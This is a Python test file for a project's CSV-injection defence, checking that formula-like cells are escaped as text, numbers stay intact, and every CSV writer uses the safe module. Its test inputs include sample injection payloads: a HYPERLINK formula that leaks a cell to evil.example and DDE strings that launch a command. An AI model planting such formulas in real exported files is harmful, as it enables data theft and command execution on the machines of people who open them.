"""CSV injection (OWASP): cells that a spreadsheet would run as formulas are written as text, numbers stay
numbers, and every CSV writer of the project goes through kinlink.lib.csvsafe."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from kinlink.lib.csvsafe import DictWriter, safe_cell, writer

SRC = Path(__file__).resolve().parents[2] / "src" / "kinlink"
#: In-memory round trips into our own parsers (never a file a person opens): their values must stay exact.
ROUND_TRIPS = {"exchange/genotypes.py", "genetics/formats.py", "lib/csvsafe.py"}


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("https://evil.example/?"&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+9)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_formula_is_written_as_text(cell: str) -> None:
    assert safe_cell(cell) == "'" + cell
    out = io.StringIO()
    writer(out).writerow(["ok", cell])
    assert next(csv.reader(io.StringIO(out.getvalue())))[1] == "'" + cell


@pytest.mark.parametrize("cell", ["-3", "+1.5", "-0.25e-3", "-inf", "Иванов", "", "a=b", "1-2", "-"])
def test_numbers_and_plain_text_are_unchanged(cell: str) -> None:
    assert safe_cell(cell) == cell


def test_non_text_cells_are_unchanged() -> None:
    assert safe_cell(-3) == -3 and safe_cell(None) is None


def test_the_dict_writer_escapes_values_not_the_header() -> None:
    out = io.StringIO()
    w = DictWriter(out, fieldnames=["name", "note"], lineterminator="\n")
    w.writeheader()
    w.writerows([{"name": "=1+1", "note": "-5"}])
    assert out.getvalue() == "name,note\n'=1+1,-5\n"


def test_every_csv_writer_of_the_project_escapes_formulas() -> None:
    raw = re.compile(r"\bcsv\.(writer|DictWriter)\(")
    offenders = [
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if raw.search(path.read_text(encoding="utf-8")) and str(path.relative_to(SRC)) not in ROUND_TRIPS
    ]
    assert not offenders, f"use kinlink.lib.csvsafe.writer / DictWriter in: {offenders}"
